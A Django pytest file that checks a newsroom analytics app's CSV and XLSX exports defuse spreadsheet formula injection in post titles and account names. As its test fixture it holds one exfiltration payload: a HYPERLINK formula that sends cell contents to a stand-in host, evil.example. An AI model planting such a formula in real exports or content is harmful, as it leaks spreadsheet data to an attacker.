"""Exports never hand a spreadsheet a formula: post titles and account names stay text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from analytics.services import collection
from channels_publish.adapters.metrics import PostMetrics
from newsroom.spreadsheets import safe_cell, safe_row, safe_text
from tests.factories import channel

from .conftest import published

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?d="&A1;"Mehr")'


def test_it_defuses_formula_text_and_leaves_numbers_alone():
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert safe_text("-2+3") == "'-2+3"
    assert safe_text("\t=1") == "'\t=1"
    assert safe_text("Baumpflanzaktion") == "Baumpflanzaktion"
    assert safe_text(None) == ""
    assert safe_row([None, -5, 2.5, True, "+49 30"]) == ["", -5, 2.5, True, "'+49 30"]
    assert safe_cell(-5) == -5


@pytest.fixture
def dangerous_dashboard(department):
    account = channel("facebook", department, name="@Stadt=Umwelt")
    moment = timezone.now() - timedelta(days=2)
    delivery = published(account, "fb-formula", moment, department, title=TITLE)
    collection.store_metrics(delivery, PostMetrics(impressions=1234, reactions=56), moment)
    return reverse("analytics:department", kwargs={"pk": department.pk})


def test_the_csv_export_writes_titles_and_account_names_as_text(
    client, head, dangerous_dashboard,
):
    client.force_login(head)
    response = client.get(dangerous_dashboard, {"export": "csv"})
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in table for cell in row]
    assert "'" + TITLE in cells
    assert "'@Stadt=Umwelt" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)
    assert "1234" in cells  # figures stay numbers


def test_the_xlsx_export_stores_titles_as_text_not_formulas(client, head, dangerous_dashboard):
    from openpyxl import load_workbook

    client.force_login(head)
    response = client.get(dangerous_dashboard, {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert "'" + TITLE in texts
    assert "'@Stadt=Umwelt" in texts
    assert 1234 in [cell.value for cell in cells if cell.data_type == "n"]
